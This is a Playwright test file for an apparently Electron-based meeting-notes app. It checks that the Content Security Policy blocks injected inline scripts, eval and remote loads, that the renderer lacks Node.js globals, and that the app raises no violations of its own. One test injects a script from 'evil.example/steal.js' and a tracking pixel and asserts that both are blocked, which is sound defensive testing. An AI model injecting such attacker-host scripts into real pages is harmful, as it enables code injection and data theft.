import { expect, test } from '../harness/appFixture';
import { heading, openMeeting, paragraph, text } from './richTextSupport';

test('the CSP blocks injected scripts, eval and remote images, and no request leaves the page', async ({ app }) => {
  const { page } = app;
  // A script of the app's own origin (allowed by script-src 'self') that tries eval: code run from the test itself is exempt from the CSP.
  await page.route('**/csp-probe.js', (route) => route.fulfill({
    contentType: 'text/javascript',
    body: "try { eval('1 + 1'); window.evalResult = 'ran'; } catch (error) { window.evalResult = 'blocked'; }",
  }));
  await page.evaluate(() => {
    (window as unknown as { violations: string[] }).violations = [];
    document.addEventListener('securitypolicyviolation', (event) => {
      (window as unknown as { violations: string[] }).violations.push(`${event.effectiveDirective} ${event.blockedURI}`);
    });
  });
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.injected = true;';
    document.body.appendChild(script);
    const remote = document.createElement('script');
    remote.src = 'https://evil.example/steal.js';
    document.body.appendChild(remote);
    const image = document.createElement('img');
    image.src = 'https://evil.example/pixel.png';
    document.body.appendChild(image);
    const probe = document.createElement('script');
    probe.src = '/csp-probe.js';
    document.body.appendChild(probe);
  });
  const state = () => page.evaluate(() => {
    const { injected, evalResult, violations } = window as unknown as { injected?: boolean; evalResult?: string; violations: string[] };
    return { injected, evalResult, violations: [...violations] };
  });
  // The violation reports are events queued as tasks: on a loaded machine they come well after the probe has run.
  await expect.poll(async () => (await state()).evalResult).toBe('blocked');
  await expect.poll(async () => (await state()).violations).toEqual(expect.arrayContaining([
    expect.stringMatching(/^script-src(-elem)? inline/),
    expect.stringMatching(/^script-src(-elem)? https:\/\/evil\.example\/steal\.js/),
    expect.stringMatching(/^img-src https:\/\/evil\.example\/pixel\.png/),
    expect.stringMatching(/^script-src eval/),
  ]));
  expect((await state()).injected).toBeUndefined();
  expect(app.blockedRequests.filter((url) => url.includes('evil.example'))).toEqual([]);
});

test('the renderer has no Node.js and only the named bridge methods', async ({ app }) => {
  const globals = await app.page.evaluate(() => ({
    require: typeof (window as unknown as { require?: unknown }).require,
    process: typeof (globalThis as unknown as { process?: unknown }).process,
    bridge: Object.keys((window as unknown as { rapporteur: object }).rapporteur).sort(),
  }));
  expect(globals.require).toBe('undefined');
  expect(globals.process).toBe('undefined');
  expect(globals.bridge).not.toContain('invoke');
  expect(globals.bridge).not.toContain('send');
  expect(globals.bridge).toContain('saveMeeting');
});

test('the app itself never trips the CSP while it starts, opens a meeting with an agenda and takes notes', async ({ app }) => {
  const { page } = app;
  await page.addInitScript(() => {
    const found: string[] = [];
    (window as unknown as { ownViolations: string[] }).ownViolations = found;
    document.addEventListener('securitypolicyviolation', (event) => found.push(`${event.effectiveDirective} ${event.blockedURI}`));
  });
  await page.reload();
  await app.notes().waitFor();
  await openMeeting(app, [{ id: 'a1', title: 'Opening' }, { id: 'a2', title: 'AoB' }], [heading('a1'), paragraph(text('Notes.')), heading('a2')]);
  await app.notes().getByText('Notes.').click();
  await page.keyboard.type(' More notes.');
  // The agenda is checked against its schema in idle time after start, and again when it changes.
  await page.getByRole('button', { name: 'AoB' }).first().click();
  await page.waitForTimeout(2_500);
  expect(await page.evaluate(() => (window as unknown as { ownViolations: string[] }).ownViolations)).toEqual([]);
});
